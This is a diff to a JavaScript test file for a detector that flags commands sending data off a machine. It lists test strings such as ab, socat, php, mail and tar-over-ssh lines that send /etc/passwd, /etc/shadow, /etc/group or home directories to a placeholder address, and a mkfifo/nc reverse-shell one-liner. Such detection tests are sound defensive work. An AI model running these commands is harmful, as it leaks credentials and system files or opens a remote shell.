@@ -22,6 +22,11 @@ describe("data that leaves by a command", () => {
     "python3 -m http.server 8000",
     "aws s3 cp /root/.kube/config s3://b/",
     'php -r \'$d=file_get_contents("/etc/group");file_get_contents("http://192.0.2.7/?q=".$d);\'',
+    "ab -p /etc/passwd http://192.0.2.7/",
+    "rclone copy /etc away:x --config r.conf",
+    "socat - TCP:192.0.2.7:80 < /etc/group",
+    "tar cz /home/* | openssl des3 -k x | ssh eve@192.0.2.7 'cat > h'",
+    "python3 -c 'import http.server as h; h.HTTPServer((\"\", 80), h.SimpleHTTPRequestHandler).serve_forever()'",
     "mail -s x eve@mail.example < /etc/shadow",
   ])("%s fires", (line) => {
     expect(grade(run(possibleDataLossCommand, [script(line)]))).toEqual(["medium"]);
@@ -41,6 +46,9 @@ describe("data that leaves by a command", () => {
     "curl -d @body.json https://api.example/",
     "curl -F f=@/etc/passwd http://localhost:8080/",
     "scp eve@192.0.2.7:/etc/passwd .",
+    "ab -n 100 http://192.0.2.7/",
+    "rclone copy away:x /srv --config r.conf",
+    "socat - TCP:192.0.2.7:80 < motd",
     "python3 -m http.server --help",
     "mkfifo q; nc 192.0.2.7 80 < q | sh > q",
     "nc -zv 192.0.2.7 80",
